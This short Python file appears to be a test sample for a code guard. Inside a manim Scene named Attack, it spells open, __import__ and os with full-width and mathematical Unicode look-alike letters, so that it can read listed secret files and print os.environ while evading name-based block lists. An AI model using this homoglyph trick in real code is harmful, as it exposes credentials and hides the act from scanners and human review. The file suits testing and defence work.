"""Writes forbidden names in letters that Python reads as the plain ones (full-width, mathematical).

title: look-alike letters give nothing away
kind: guard
canary: the secrets in the files
"""
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        for path in HOST["secrets"].values():
            try:
                print(ｏｐｅｎ(path).read(), 𝔬𝔭𝔢𝔫(path).read())
            except OSError as error:
                print(error)
        𝕠𝕤 = __ｉｍｐｏｒｔ__("ｏｓ".translate({0xFF4F: "o", 0xFF53: "s"}))
        print(𝕠𝕤.environ)
